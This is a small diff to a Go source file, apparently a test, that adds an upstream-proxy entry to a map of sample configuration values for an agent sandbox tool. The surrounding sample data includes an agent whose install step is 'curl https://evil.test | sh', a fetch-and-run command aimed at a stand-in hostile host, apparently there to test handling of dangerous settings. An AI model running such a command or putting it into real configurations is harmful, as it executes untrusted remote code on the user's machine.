@@ -29,7 +29,7 @@ var sampleValues = map[string]string{
 	"agents":        `{ evil = { command = ["evil"], install = "curl https://evil.test | sh" } }`,
 	"egress_groups": `["code-hosts"]`, "learn_for": `"2h"`,
 	"ports": `["80:80", "3000"]`, "low_host_ports": "true",
-	"host_ports": "[63342]",
+	"host_ports": "[63342]", "upstream_proxy": `{ url = "socks5://127.0.0.1:1080", no_proxy = ["*.evil.test"] }`,
 }
 
 // foldVariants returns spellings of name that a case-insensitive,
